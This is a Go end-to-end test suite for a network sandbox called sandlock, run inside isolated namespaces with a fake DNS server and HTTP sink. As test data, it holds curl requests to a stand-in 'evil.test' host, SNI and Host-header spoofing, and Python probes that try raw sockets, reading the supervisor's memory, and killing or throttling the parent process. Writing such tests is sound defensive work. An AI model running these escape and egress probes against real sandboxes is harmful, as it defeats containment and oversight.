// Package e2e runs the built program against real clients and servers in
// network and mount namespaces of its own, so that no packet can leave.
package e2e

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"fmt"
	"math/big"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/miekg/dns"
)

const (
	inside  = "SANDLOCK_E2E_INSIDE"
	public  = "93.184.216.34" // an address of the laboratory's own loopback device
	private = "10.0.0.5"
)

var binary string

func TestMain(m *testing.M) {
	if os.Getenv(inside) == "" {
		os.Exit(outside())
	}
	binary = os.Getenv(inside)
	if err := laboratory(); err != nil {
		fmt.Fprintln(os.Stderr, "laboratory:", err)
		os.Exit(1)
	}
	os.Exit(m.Run())
}

// outside builds the program and runs this test binary again in namespaces.
func outside() int {
	path := os.Getenv("SANDLOCK_BINARY")
	if path == "" {
		dir, err := os.MkdirTemp("", "e2e")
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			return 1
		}
		defer os.RemoveAll(dir)
		path = filepath.Join(dir, "sandlock")
		build := exec.Command("go", "build", "-o", path, "../cmd/sandlock")
		build.Env = append(os.Environ(), "CGO_ENABLED=0")
		if out, err := build.CombinedOutput(); err != nil {
			fmt.Fprintf(os.Stderr, "build: %v\n%s", err, out)
			return 1
		}
	}
	c := exec.Command("/proc/self/exe", os.Args[1:]...)
	c.Stdout, c.Stderr = os.Stdout, os.Stderr
	c.Env = append(os.Environ(), inside+"="+path)
	c.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWNET | syscall.CLONE_NEWNS}
	if os.Geteuid() != 0 {
		c.SysProcAttr.Cloneflags |= syscall.CLONE_NEWUSER
		c.SysProcAttr.UidMappings = []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getuid(), Size: 1}}
		c.SysProcAttr.GidMappings = []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getgid(), Size: 1}}
	}
	if err := c.Run(); err != nil {
		return 1
	}
	return 0
}

func laboratory() error {
	for _, args := range [][]string{
		{"mount", "--make-rprivate", "/"},
		{"ip", "link", "set", "lo", "up"},
		{"ip", "addr", "add", public + "/32", "dev", "lo"},
		{"ip", "addr", "add", private + "/32", "dev", "lo"},
	} {
		if out, err := exec.Command(args[0], args[1:]...).CombinedOutput(); err != nil {
			return fmt.Errorf("%v: %w: %s", args, err, out)
		}
	}
	dir, err := os.MkdirTemp("", "lab")
	if err != nil {
		return err
	}
	ca, err := startTLS(dir)
	if err != nil {
		return err
	}
	files := map[string]string{"/etc/resolv.conf": "nameserver 127.0.0.1\n", "/etc/hosts": "127.0.0.1 localhost\n"}
	for path, text := range files {
		f := filepath.Join(dir, filepath.Base(path))
		if err := os.WriteFile(f, []byte(text), 0o644); err != nil {
			return err
		}
		if err := syscall.Mount(f, path, "", syscall.MS_BIND, ""); err != nil {
			return err
		}
	}
	os.Setenv("SSL_CERT_FILE", ca)
	os.Setenv("CURL_CA_BUNDLE", ca)
	return startDNS()
}

var queries struct {
	sync.Mutex
	names []string
}

// startDNS serves ok.test and evil.test (public), inner.test (loopback).
func startDNS() error {
	pc, err := net.ListenPacket("udp", "127.0.0.1:53")
	if err != nil {
		return err
	}
	addrs := map[string]string{"ok.test.": public, "evil.test.": public, "inner.test.": "127.0.0.1"}
	go dns.ActivateAndServe(nil, pc, dns.HandlerFunc(func(w dns.ResponseWriter, q *dns.Msg) {
		m := new(dns.Msg).SetReply(q)
		name := strings.ToLower(q.Question[0].Name)
		queries.Lock()
		queries.names = append(queries.names, name)
		queries.Unlock()
		if a, ok := addrs[name]; !ok {
			m.Rcode = dns.RcodeNameError
		} else if q.Question[0].Qtype == dns.TypeA {
			rr, _ := dns.NewRR(name + " 60 IN A " + a)
			m.Answer = append(m.Answer, rr)
		}
		w.WriteMsg(m)
	}))
	return nil
}

func asked(name string) bool {
	queries.Lock()
	defer queries.Unlock()
	for _, n := range queries.names {
		if n == name+"." {
			return true
		}
	}
	return false
}

var requests struct {
	sync.Mutex
	lines []string
}

// saw tells whether the HTTP sink got a request with the nonce.
func saw(nonce string) bool {
	requests.Lock()
	defer requests.Unlock()
	return strings.Contains(strings.Join(requests.lines, "\n"), nonce)
}

func startTLS(dir string) (string, error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return "", err
	}
	t := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "lab"}, NotBefore: time.Now().Add(-time.Hour),
		NotAfter: time.Now().Add(time.Hour), DNSNames: []string{"ok.test", "evil.test"}, IsCA: true, BasicConstraintsValid: true,
		KeyUsage: x509.KeyUsageDigitalSignature | x509.KeyUsageCertSign}
	der, err := x509.CreateCertificate(rand.Reader, t, t, &key.PublicKey, key)
	if err != nil {
		return "", err
	}
	ca := filepath.Join(dir, "ca.pem")
	if err := os.Chmod(dir, 0o755); err != nil {
		return "", err
	}
	if err := os.WriteFile(ca, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}), 0o644); err != nil {
		return "", err
	}
	h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		requests.Lock()
		requests.lines = append(requests.lines, r.Host+r.URL.Path)
		requests.Unlock()
		fmt.Fprint(w, "hello from ", r.Host)
	})
	cfg := &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}}
	for _, at := range []string{public + ":443", public + ":80", private + ":80", "127.0.0.1:80"} {
		l, err := net.Listen("tcp", at)
		if err != nil {
			return "", err
		}
		if strings.HasSuffix(at, ":443") {
			l = tls.NewListener(l, cfg)
		}
		go http.Serve(l, h)
	}
	return ca, nil
}

type result struct {
	code        int
	out, errout string
}

func run(t *testing.T, args ...string) result {
	t.Helper()
	c := exec.CommandContext(t.Context(), binary, append([]string{"net"}, args...)...)
	var out, errout bytes.Buffer
	c.Stdout, c.Stderr = &out, &errout
	c.Run()
	return result{c.ProcessState.ExitCode(), out.String(), errout.String()}
}

func curl(nonce, url string, more ...string) []string {
	return append([]string{"--", "curl", "-sS", "--max-time", "10", url + "/" + nonce}, more...)
}

func TestNameReachesItsServer(t *testing.T) {
	for _, url := range []string{"https://ok.test", "http://ok.test"} {
		nonce := "n" + rand.Text()
		r := run(t, append([]string{"--allow", "ok.test"}, curl(nonce, url)...)...)
		if r.code != 0 || r.out != "hello from ok.test" || !saw(nonce) {
			t.Errorf("%s: %+v", url, r)
		}
	}
}

func TestPythonReachesTheName(t *testing.T) {
	nonce := "n" + rand.Text()
	r := run(t, "--allow", "ok.test:443", "--", "python3", "-c",
		"import urllib.request;print(urllib.request.urlopen('https://ok.test/"+nonce+"').read().decode())")
	if r.code != 0 || !saw(nonce) {
		t.Errorf("%+v", r)
	}
}

func TestWhatIsNotAllowedArrivesNowhere(t *testing.T) {
	for _, c := range []struct {
		name  string
		allow []string
		args  func(nonce string) []string
	}{
		{"another name", []string{"--allow", "ok.test"}, func(n string) []string { return curl(n, "https://evil.test") }},
		{"the name's address", []string{"--allow", "ok.test:443"}, func(n string) []string { return curl(n, "http://"+public) }},
		{"another SNI", []string{"--allow", "ok.test"}, func(n string) []string {
			return append([]string{"--", "sh", "-c", "getent hosts ok.test >/dev/null; exec \"$@\"", "sh"},
				curl(n, "https://evil.test", "--resolve", "evil.test:443:"+public)[1:]...)
		}},
		{"another Host", []string{"--allow", "ok.test"}, func(n string) []string { return curl(n, "http://ok.test", "-H", "Host: evil.test") }},
		{"an allowed name on another address", []string{"--allow", "ok.test"}, func(n string) []string {
			return curl(n, "http://ok.test", "--resolve", "ok.test:80:"+private)
		}},
		{"a name that leads to loopback", []string{"--allow", "inner.test"}, func(n string) []string { return curl(n, "http://inner.test") }},
		{"a denied name", []string{"--allow", "*.test", "--deny", "evil.test"}, func(n string) []string { return curl(n, "https://evil.test") }},
	} {
		t.Run(c.name, func(t *testing.T) {
			nonce := "n" + rand.Text()
			r := run(t, append(c.allow, c.args(nonce)...)...)
			if saw(nonce) {
				t.Fatalf("the sink saw it: %+v", r)
			}
			if !strings.Contains(r.errout, "sandlock: denied") {
				t.Errorf("no explanation: %+v", r)
			}
			if !strings.HasPrefix(r.out, "sandlock: this connection") && r.code == 0 && !strings.Contains(r.out+r.errout, "sandlock") {
				t.Errorf("the client was not told: %+v", r)
			}
		})
	}
	if !asked("ok.test") || asked("evil.test") {
		t.Error("the query log must hold ok.test and not evil.test")
	}
}

func TestProbesFail(t *testing.T) {
	for name, code := range map[string]string{
		"udp":           "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.settimeout(.2);s.sendto(b'x',('" + private + "',9999));s.recv(1)",
		"fast open":     "s=socket.socket();s.sendto(b'x',socket.MSG_FASTOPEN,('" + private + "',80))",
		"mptcp":         "socket.socket(socket.AF_INET,socket.SOCK_STREAM,262)",
		"raw":           "socket.socket(socket.AF_INET,socket.SOCK_RAW,1)",
		"packet":        "socket.socket(socket.AF_PACKET,socket.SOCK_DGRAM,0)",
		"netlink diag":  "socket.socket(socket.AF_NETLINK,socket.SOCK_RAW,4)",
		"unix dgram":    "socket.socket(socket.AF_UNIX,socket.SOCK_DGRAM)",
		"mark":          "socket.socket().setsockopt(1,36,1)",
		"supervisor":    "import os;open('/proc/%d/mem'%os.getppid(),'rb')",
		"kill":          "import os;os.kill(os.getppid(),9)",
		"kill a thread": "import os,ctypes;p=os.getppid();l=ctypes.CDLL(None);r=[l.syscall(234,p,int(t),9) for t in os.listdir('/proc/%d/task'%p)];sys.exit(7 if set(r)=={-1} else 0)",
		"limits":        "import os,resource;resource.prlimit(os.getppid(),resource.RLIMIT_CPU,(1,1))",
		"foreign bind":  "s=socket.socket();s.bind(('" + private + "',8081))",
	} {
		r := run(t, "--quiet", "--", "python3", "-c", "import socket,sys\ntry:\n  "+strings.ReplaceAll(code, ";", "\n  ")+"\nexcept OSError as e:\n  sys.exit(7)")
		if r.code != 7 {
			t.Errorf("%s: %+v", name, r)
		}
	}
}

func TestOwnServersAreReachableInsideOnly(t *testing.T) {
	script := `import socket,threading
for host,to in (('0.0.0.0','127.0.0.1'),('127.0.0.1','127.0.0.1'),('::','::1')):
  l=socket.socket(socket.AF_INET6 if ':' in host else socket.AF_INET); l.bind((host,0)); l.listen()
  c=socket.create_connection((to,l.getsockname()[1]),2); a,_=l.accept(); c.send(b'x'); assert a.recv(1)==b'x'
print('ok')`
	if r := run(t, "--", "python3", "-c", script); r.out != "ok\n" {
		t.Errorf("%+v", r)
	}
}

func TestExitCodesAndErrors(t *testing.T) {
	for _, c := range []struct {
		args []string
		code int
	}{
		{[]string{"--", "sh", "-c", "exit 5"}, 5},
		{[]string{"--", "sh", "-c", "kill -TERM $$"}, 143},
		{[]string{"--", "no-such-program"}, 127},
		{[]string{"--", "/etc/passwd"}, 126},
		{[]string{"--timeout", "300ms", "--", "sleep", "60"}, 124},
		{[]string{"--allow", "", "--", "true"}, 2},
		{[]string{"--allow", "g*.com:443", "--", "true"}, 2},
		{[]string{"--allow", "a.test:443", "--deny", "a.test", "--", "true"}, 2},
		{[]string{"--allow", "a.test:0", "--", "true"}, 2},
		{nil, 2},
	} {
		r := run(t, c.args...)
		if r.code != c.code || c.code == 2 && strings.Count(r.errout, "\n") != 1 {
			t.Errorf("%v: %+v, want code %d", c.args, r, c.code)
		}
	}
}
